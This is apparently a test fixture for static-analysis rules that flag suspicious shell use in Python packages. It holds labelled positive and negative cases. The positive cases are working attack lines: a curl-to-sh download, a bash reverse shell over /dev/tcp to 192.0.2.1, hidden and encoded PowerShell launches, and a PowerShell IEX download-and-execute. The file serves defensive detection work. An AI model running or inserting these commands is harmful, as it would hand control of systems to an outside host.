import os
import subprocess

# ruleid: pkg-shell-download
os.system("curl -s http://192.0.2.1/x | sh")
# ruleid: pkg-shell-download
os.system("bash -i >& /dev/tcp/192.0.2.1/1 0>&1")
# ok: pkg-shell-download
os.system("curl -O https://example.invalid/x")
# ok: pkg-shell-download
print("a | b")
# ruleid: pkg-shell-words
subprocess.Popen(["powershell", "-WindowStyle", "hidden", "x"])
# ruleid: pkg-shell-words
subprocess.Popen(["powershell", "-enc", "x"])
# ok: pkg-shell-words
subprocess.Popen(["powershell", "-Command", "ls"])
# ok: pkg-shell-words
subprocess.Popen(["bash", "-e", "x"])
# ruleid: pkg-shell-download
os.system("xz -dc tests/x.xz | /bin/sh")
# ok: pkg-shell-download
os.system("xz -dc x.tar.xz | tar x")
# ruleid: pkg-shell-download
os.system("powershell IEX (New-Object Net.WebClient).Foo('x')")
# ok: pkg-shell-download
ALIASES = "iex ihy ii ipal ipcsv ipmo ipsn irm ise iwmi iwr"
